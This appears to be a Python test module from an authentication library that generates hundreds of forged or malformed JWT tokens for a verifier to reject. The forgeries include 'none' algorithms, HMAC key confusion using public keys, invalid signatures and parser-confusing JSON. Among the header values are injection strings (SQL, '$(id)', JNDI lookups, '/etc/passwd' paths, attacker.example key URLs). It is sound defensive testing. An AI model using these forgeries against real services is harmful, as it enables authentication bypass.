"""Tokens that nobody may accept: hundreds for every algorithm, each with the reason in its name.

Most are signed with the right key. Whoever takes them for harmless because of that trusts that every library reads a
token the same way, and that nobody who can sign ever makes a mistake.
"""

import hmac
import json
from base64 import b64encode, urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Callable, Iterator
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from brickwork.auth.jose import Key
from tests.auth.keyring import ALGORITHMS, claims

Named = tuple[str, str]

_FOREIGN_ALGORITHMS: tuple[Any, ...] = (
    "none", "None", "NONE", "nOnE", "none ", "\u0000none", "", "HS", "HS1", "HS224", "RS1", "RS384", "RS512", "PS384",
    "PS512", "ES256K", "ES384", "ES512", "Ed25519", "Ed448", "A128KW", "RSA-OAEP", "dir", "PBES2-HS256+A128KW", None,
    True, 0, [], ["HS256"], {}, {"alg": "HS256"},
)  # fmt: skip
_KIDS: tuple[Any, ...] = (
    None, "", " ", 0, 1, True, [], ["first"], {}, "unknown", "first", "../../../../dev/null", "/dev/null",
    "first\u0000", "' OR '1'='1", "1; DROP TABLE keys", "first\r\nSet-Cookie: a=b", "\u202efirst", "k" * 129, "k" * 500,
    "http://attacker.example/key", "${jndi:ldap://attacker.example}", "$(id)", "{{7*7}}", "%00", "file:///etc/passwd",
)  # fmt: skip
_MEMBERS: dict[str, Any] = {
    "crit": ["exp"], "b64": False, "zip": "DEF", "jwk": {"kty": "oct", "k": "AA"},
    "jku": "https://attacker.example/jwks", "x5u": "https://attacker.example/x5u", "x5c": ["MIIB"], "x5t": "AA",
    "x5t#S256": "AA", "cty": "JWT", "enc": "A128GCM", "epk": {}, "p2c": 2**31, "url": "https://attacker.example",
    "nonce": "1", "Alg": "none", "ALG": "none", "": "",
}  # fmt: skip
_TYPES = (
    ..., None, "", " ", "JWT", "jwt", "JOSE", "at", "at-jwt", "at+jwt ", " at+jwt", "at+jwt;v=1", "application/",
    "application/application/at+jwt", "text/at+jwt", "refresh+jwt", "reset+jwt", "verify+jwt", "logout+jwt", "id+jwt",
    "secevent+jwt", "dpop+jwt", "token-introspection+jwt", 0, True, ["at+jwt"], {"at+jwt": 1}, "\u0430t+jwt",
)  # fmt: skip
_NO_TIMES: tuple[Any, ...] = (
    ..., None, "", "0", "4102444800", True, False, [], [4102444800], {}, -1, -0.5, 1e18, 10**40, 253402300800,
)  # fmt: skip
_NO_NAMES: tuple[Any, ...] = (
    ..., None, "", " ", " user", "user ", 0, 1, 1.5, True, [], ["user-1"], {}, "user\u0000", "user\r\nX: y", "\u2028",
    "u" * 256,
)  # fmt: skip
_TEXTS = (
    b"", b" ", b"{", b"}", b"[]", b'"text"', b"null", b"true", b"0", b"{} {}", b"{}x", b"{'alg':'none'}", b'{"a":1,}',
    b'{"a":}', b"{a:1}", b'{"a":1/*comment*/}', b'{"a":01}', b'{"a":+1}', b'{"a":.5}', b'{"a":0x1}', b'{"a":"\x01"}',
    b'{"a":"\\x41"}', b'{"a":"\xff"}', b'{"a":"\xc0\xaf"}', b'{"a":"\xed\xa0\x80"}', b"\x00", b"\xff\xfe", b"\x80\x81",
)  # fmt: skip


def b64(data: bytes) -> str:
    """Encode as base64url without padding."""
    return urlsafe_b64encode(data).rstrip(b"=").decode()


def forge(header: bytes, payload: bytes, sign: Callable[[bytes], bytes]) -> str:
    """Put a token together from anything."""
    signed = f"{b64(header)}.{b64(payload)}"
    return f"{signed}.{b64(sign(signed.encode()))}"


def header_of(key: Key, **changes: Any) -> dict[str, Any]:
    """Give the header that a key writes; `...` takes a member away."""
    good = {"alg": key.algorithm, "typ": "at+jwt", "kid": key.kid}
    return {name: value for name, value in {**good, **changes}.items() if value is not ...}


def signed(key: Key, header: dict[str, Any], payload: dict[str, Any]) -> str:
    """Sign any header and any claims."""
    return forge(json.dumps(header).encode(), json.dumps(payload).encode(), key.sign)


def hostile_tokens(key: Key, stranger: Key, *, now: float) -> Iterator[Named]:
    """Give every token that must be refused where only ``key`` is trusted, with a name that says why.

    Args:
        key: Signs those that are wrong in another way.
        stranger: Another key of the same algorithm.
        now: The present, in seconds since 1970.
    """
    good = signed(key, header_of(key), claims(now))
    yield from _no_tokens(good)
    yield from _other_texts(good)
    yield from _headers(key, now)
    yield from _json(key, now)
    yield from _times(key, now)
    yield from _claims(key, now)
    yield from _signatures(key, stranger, now)
    yield from _confused(key, now)


def _no_tokens(good: str) -> Iterator[Named]:
    header, payload, signature = good.split(".")
    texts = (
        "", " ", ".", "..", "...", "a.b.c", "null", "undefined", "Bearer", f"Bearer {good}", f'"{good}"',
        f"{good},{good}", header, f"{header}.{payload}", f"{header}.{payload}.", f".{payload}.{signature}",
        f"{header}..{signature}", f"{good}.", f".{good}", f"{good}.{signature}",
        f"{header}.{payload}.{signature}.{signature}.{signature}", f"{payload}.{header}.{signature}",
        f"{header}.{header}.{signature}", f"{header}.{signature}.{payload}",
        json.dumps({"protected": header, "payload": payload, "signature": signature}), "A" * 8193, good + "A" * 8192,
        f"{header}.{'A' * 8192}.{signature}", f"{'A' * 8000}.{payload}.{signature}", "." * 8192, "a." * 4096,
        good.upper(), good.lower(), good.swapcase(), good[::-1], good[1:], good[:-1], good.encode().hex(),
        b64(good.encode()),
    )  # fmt: skip
    yield from ((f"no token {number}", text) for number, text in enumerate(texts))


def _other_texts(good: str) -> Iterator[Named]:
    """The same token in another text: whoever denies tokens by their text would be passed by."""
    for place, part in enumerate(good.split(".")):
        for name, other in _respelled(part):
            parts = good.split(".")
            parts[place] = other
            yield f"segment {place} {name}", ".".join(parts)
    for name, character in {
        "tab": "\t",
        "space": " ",
        "newline": "\n",
        "return": "\r",
        "NUL": "\0",
        "wide": "\uff21",
    }.items():
        yield f"{name} in front", character + good
        yield f"{name} at the end", good + character
        yield f"{name} after a dot", good.replace(".", f".{character}", 1)
        yield f"{name} inside", good[:9] + character + good[9:]
    yield "percent-encoded dots", good.replace(".", "%2E")
    yield "other dots", good.replace(".", "\u3002")


def _respelled(part: str) -> Iterator[Named]:
    padded = part + "=" * (-len(part) % 4)
    yield "padded", padded if padded != part else part + "===="
    yield "with one more =", part + "="
    yield "with a character too many", part + "A" * (1 if len(part) % 4 == 0 else 5 - len(part) % 4)
    yield "in two lines", f"{part[:8]}\n{part[8:]}"
    yield "in the standard alphabet", "+/" + part[2:]
    yield "with a character of neither alphabet", part[:-1] + "~"
    if len(part) % 4:
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        yield "with stray bits", part[:-1] + alphabet[alphabet.index(part[-1]) ^ 1]


def _headers(key: Key, now: float) -> Iterator[Named]:
    good = claims(now)
    others = [name for name in ALGORITHMS if name != key.algorithm]
    for algorithm in (..., key.algorithm.lower(), key.algorithm + " ", *others, *_FOREIGN_ALGORITHMS):
        token = signed(key, header_of(key, alg=algorithm), good)
        yield f"alg {algorithm!r}, signed", token
        yield f"alg {algorithm!r}, unsigned", token.rpartition(".")[0] + "."
    for kid in (..., key.kid.upper(), key.kid + " ", *_KIDS):
        yield f"kid {kid!r}", signed(key, header_of(key, kid=kid), good)
    for typ in _TYPES:
        yield f"typ {typ!r}", signed(key, header_of(key, typ=typ), good)
    for name, value in _MEMBERS.items():
        yield f"header {name!r}", signed(key, header_of(key, **{name: value}), good)
        yield f"critical {name!r}", signed(key, header_of(key, **{name: value, "crit": [name]}), good)
    for value in (None, [], "exp", ["alg"], {}, 1):
        yield f"crit {value!r}", signed(key, header_of(key, crit=value), good)


def _json(key: Key, now: float) -> Iterator[Named]:
    header, payload = json.dumps(header_of(key)).encode(), json.dumps(claims(now)).encode()
    for name, text in (*_broken(header, "alg"), *((repr(text), text) for text in _TEXTS)):
        yield f"header is {name}", forge(text, payload, key.sign)
    for name, text in (*_broken(payload, "exp"), *((repr(text), text) for text in _TEXTS)):
        yield f"payload is {name}", forge(header, text, key.sign)
    deep = b"[" * 1500 + b"]" * 1500
    for name, nested in {"1500 arrays": deep, "800 objects": b'{"a":' * 800 + b"1" + b"}" * 800}.items():
        yield f"own claim of {name}", forge(header, payload[:-1] + b',"own":' + nested + b"}", key.sign)
        yield f"payload of {name}", forge(header, nested, key.sign)
        yield f"header of {name}", forge(nested, payload, key.sign)
    for name, other in _respelled(b64(payload + b" " * (-len(payload) % 3 + 1))):
        respelled = f"{b64(header)}.{other}"
        yield f"signed payload {name}", f"{respelled}.{b64(key.sign(respelled.encode()))}"
    yield "header of 300 arrays", forge(b"[" * 300 + b"]" * 300, payload, key.sign)
    yield "unsigned header of 6000 arrays", f"{b64(b'[' * 6000)}.e30.AA"


def _broken(text: bytes, name: str) -> Iterator[tuple[str, bytes]]:
    """An object that libraries read in more than one way."""
    first, rest = text[:1], text[1:]
    yield "twice the same member", first + b'"%b":"none",' % name.encode() + rest
    yield "twice the same member, at the end", text[:-1] + b',"%b":4102444800}' % name.encode()
    yield "twice the same member, escaped", first + b'"\\u%04x%b":1,' % (ord(name[0]), name[1:].encode()) + rest
    yield "with a byte order mark", b"\xef\xbb\xbf" + text
    yield "in UTF-16", text.decode().encode("utf-16")
    yield "in UTF-16 without a mark", text.decode().encode("utf-16-le")
    yield "in UTF-32", text.decode().encode("utf-32")
    yield "in an array", b"[" + text + b"]"
    yield "a text of itself", json.dumps(text.decode()).encode()
    yield "followed by NUL", text + b"\0"
    yield "followed by another", text + text
    for constant in (
        b"NaN",
        b"Infinity",
        b"-Infinity",
        b"1e400",
        b"-1e400",
        b"1" * 5000,
        b'"\\ud800"',
        b'{"a":1,"a":1}',
    ):
        yield f"with {constant[:20]!r}", text[:-1] + b',"own":%b}' % constant


def _times(key: Key, now: float) -> Iterator[Named]:
    for name in ("exp", "iat", "nbf", "auth_time"):
        for value in _NO_TIMES:
            if value is ... and name in ("nbf", "auth_time"):
                continue
            yield f"{name} {value!r}", signed(key, header_of(key), claims(now, **{name: value}))
        for text in (b"NaN", b"Infinity", b"-Infinity", b"1e400", b"9" * 4000, b"1e999999999", b"0x7fffffff"):
            payload = json.dumps(claims(now, **{name: ...})).encode()[:-1] + b',"%b":%b}' % (name.encode(), text)
            yield f"{name} {text[:20]!r}", forge(json.dumps(header_of(key)).encode(), payload, key.sign)
    for seconds in (0, 0.001, 1, 60, 86_400, now):
        yield f"expired for {seconds} s", signed(key, header_of(key), claims(now, exp=now - seconds))
    for seconds in (0.001, 1, 60, 86_400, 10**10):
        yield f"of {seconds} s in the future", signed(key, header_of(key), claims(now, iat=now + seconds))
        yield f"good in {seconds} s", signed(key, header_of(key), claims(now, nbf=now + seconds))


def _claims(key: Key, now: float) -> Iterator[Named]:
    for name in ("sub", "jti", "sid"):
        for value in _NO_NAMES[name == "sid" :]:
            yield f"{name} {value!r}", signed(key, header_of(key), claims(now, **{name: value}))
    for name in ("iss", "aud"):
        right = claims(now)[name]
        wrong = (
            *_NO_NAMES, right + "/", right.upper(), right[:-1], right + "\0", f" {right}",
            right.replace("https", "http"), [right.upper()], [[right]], [right, 1], [right, None], {right: 1},
            f"{right} {right}", "*", [""],
        )  # fmt: skip
        for value in (*wrong, *([[right]] if name == "iss" else [])):
            yield f"{name} {value!r}", signed(key, header_of(key), claims(now, **{name: value}))
    for value in (None, "3", 1.5, -1, True, [3], {}, 2**63):
        yield f"ver {value!r}", signed(key, header_of(key), claims(now, ver=value))
    for value in (
        None,
        0,
        False,
        True,
        [],
        ["orders:read"],
        {},
        " ",
        "a  b",
        " a",
        "a ",
        "a\tb",
        'a"b',
        "a\\b",
        "\u00e9",
        "a\r\n",
    ):
        yield f"scope {value!r}", signed(key, header_of(key), claims(now, scope=value))
    yield "only a subject", signed(key, header_of(key), {"sub": "user-1"})
    yield "nothing at all", signed(key, header_of(key), {})


def _signatures(key: Key, stranger: Key, now: float) -> Iterator[Named]:
    header, payload = json.dumps(header_of(key)).encode(), json.dumps(claims(now)).encode()
    right = key.sign(f"{b64(header)}.{b64(payload)}".encode())
    flipped = ((f"bit {bit}", _flip(right, bit)) for bit in range(0, len(right) * 8, 37))
    wrong = {
        "a zero": b"\0", "zeros": bytes(len(right)), "ones": b"\xff" * len(right), "one byte short": right[:-1],
        "one byte long": right + b"\0", "zero first": b"\0" + right, "half": right[: len(right) // 2],
        "twice": right * 2, "reversed": right[::-1], "its text": b64(right).encode(),
        "of another message": key.sign(b"other"), "of the payload": key.sign(payload), "of nothing": key.sign(b""),
        **dict(flipped),
    }  # fmt: skip
    for name, signature in wrong.items():
        yield f"signature {name}", f"{b64(header)}.{b64(payload)}.{b64(signature)}"
    yield "signed by a stranger", forge(header, payload, stranger.sign)
    yield "signed by a stranger with its kid", signed(stranger, header_of(stranger), claims(now))
    other = json.dumps(claims(now, sub="admin")).encode()
    yield "another payload", f"{b64(header)}.{b64(other)}.{b64(right)}"
    yield "another header", f"{b64(header + b' ')}.{b64(payload)}.{b64(right)}"


def _flip(data: bytes, bit: int) -> bytes:
    number = int.from_bytes(data) ^ (1 << bit)
    return number.to_bytes(len(data))


def _confused(key: Key, now: float) -> Iterator[Named]:
    """Signatures by what everybody knows, or by the right key used in the wrong way."""
    payload = json.dumps(claims(now)).encode()
    known = {**_public_forms(key), "nothing": b"", "its kid": key.kid.encode(), "secret": b"secret", "NUL": b"\0" * 64}
    for name, secret in known.items():
        for algorithm, digest in {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}.items():
            mac = _mac(secret, digest)
            for said in sorted({algorithm, key.algorithm}):
                header = json.dumps(header_of(key, alg=said)).encode()
                yield f"{said} of {digest} by {name}", forge(header, payload, mac)
    for name, sign in _misused(key).items():
        yield f"right key, {name}", forge(json.dumps(header_of(key)).encode(), payload, sign)


def _mac(secret: bytes, digest: str) -> Callable[[bytes], bytes]:
    return lambda message: hmac.digest(secret, message, digest)


def _public_forms(key: Key) -> dict[str, bytes]:
    """The public key in every form in which it might be lying around as "the secret"."""
    shown = key.public_jwk()
    if shown is None:
        return {}
    public: Any = key._material.public_key()  # type: ignore[union-attr]
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    forms = {
        "PEM": pem, "PEM without the last newline": pem.strip(), "PEM in one line": pem.replace(b"\n", b""),
        "PEM of Windows": pem.replace(b"\n", b"\r\n"), "PEM without armor": b"".join(pem.splitlines()[1:-1]),
        "DER": der, "DER in base64": b64encode(der), "SSH": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": json.dumps(shown).encode(), "JWK without blanks": json.dumps(shown, separators=(",", ":")).encode(),
    }  # fmt: skip
    if isinstance(public, rsa.RSAPublicKey):
        forms["PKCS #1"] = public.public_bytes(Encoding.PEM, PublicFormat.PKCS1)
        forms["PKCS #1 in DER"] = public.public_bytes(Encoding.DER, PublicFormat.PKCS1)
        forms["modulus"] = urlsafe_b64decode(shown["n"] + "==")
    else:
        forms["x"] = urlsafe_b64decode(shown["x"] + "==")
    return forms


def _misused(key: Key) -> dict[str, Callable[[bytes], bytes]]:
    private: Any = key._material
    if isinstance(private, bytes):
        others = {"sha1", "sha224", "sha256", "sha384", "sha512", "sha3_256"} - {f"sha{key.algorithm[2:]}"}
        return {digest: _mac(private, digest) for digest in sorted(others)}
    if isinstance(private, rsa.RSAPrivateKey):
        return _misused_rsa(key.algorithm, private)
    if isinstance(private, ec.EllipticCurvePrivateKey):
        return _misused_curve(key, private)
    order = 2**252 + 27742317777372353535851937790883648493
    return {
        "identity and zero": lambda _: b"\x01" + bytes(63),
        "scalar beyond the order": lambda text: _shifted(private.sign(text), order),
    }


def _misused_rsa(algorithm: str, private: rsa.RSAPrivateKey) -> dict[str, Callable[[bytes], bytes]]:
    def pkcs1(digest: hashes.HashAlgorithm) -> Callable[[bytes], bytes]:
        return lambda text: private.sign(text, padding.PKCS1v15(), digest)

    def pss(digest: hashes.HashAlgorithm, salt: int, mask: hashes.HashAlgorithm) -> Callable[[bytes], bytes]:
        return lambda text: private.sign(text, padding.PSS(padding.MGF1(mask), salt), digest)

    sha1, sha256, sha512 = hashes.SHA1(), hashes.SHA256(), hashes.SHA512()
    ways = {
        "PKCS #1 with SHA-512": pkcs1(sha512),
        "PSS with SHA-512": pss(sha512, 64, sha512),
        "PSS without salt": pss(sha256, 0, sha256),
        "PSS with short salt": pss(sha256, 20, sha256),
        "PSS with long salt": pss(sha256, 64, sha256),
        "PSS masked with SHA-1": pss(sha256, 32, sha1),
        "one": lambda _: (1).to_bytes(256),
        "beyond the modulus": lambda text: (
            int.from_bytes(private.sign(text, padding.PKCS1v15(), sha256)) + private.private_numbers().public_numbers.n
        ).to_bytes(257),
    }
    other = {"PSS": pss(sha256, 32, sha256)} if algorithm == "RS256" else {"PKCS #1": pkcs1(sha256)}
    return {**ways, **other}


def _misused_curve(key: Key, private: ec.EllipticCurvePrivateKey) -> dict[str, Callable[[bytes], bytes]]:
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

    def pair(r: int, s: int) -> Callable[[bytes], bytes]:
        return lambda _: r.to_bytes(32) + s.to_bytes(32)

    def der(text: bytes) -> bytes:
        raw = key.sign(text)
        return encode_dss_signature(int.from_bytes(raw[:32]), int.from_bytes(raw[32:]))

    return {
        "in DER": der,
        "with SHA-512 in DER": lambda text: private.sign(text, ec.ECDSA(hashes.SHA512())),
        "halves of 33 bytes": lambda text: b"\0" + key.sign(text)[:32] + b"\0" + key.sign(text)[32:],
        "s before r": lambda text: key.sign(text)[32:] + key.sign(text)[:32],
        "r = s = 0": pair(0, 0),
        "r = s = 1": pair(1, 1),
        "r = s = n": pair(order, order),
        "r = 0": pair(0, 1),
        "s = 0": pair(1, 0),
        "r = n, s = 1": pair(order, 1),
    }


def _shifted(signature: bytes, order: int) -> bytes:
    scalar = int.from_bytes(signature[32:], "little") + order
    return signature[:32] + scalar.to_bytes(32, "little")
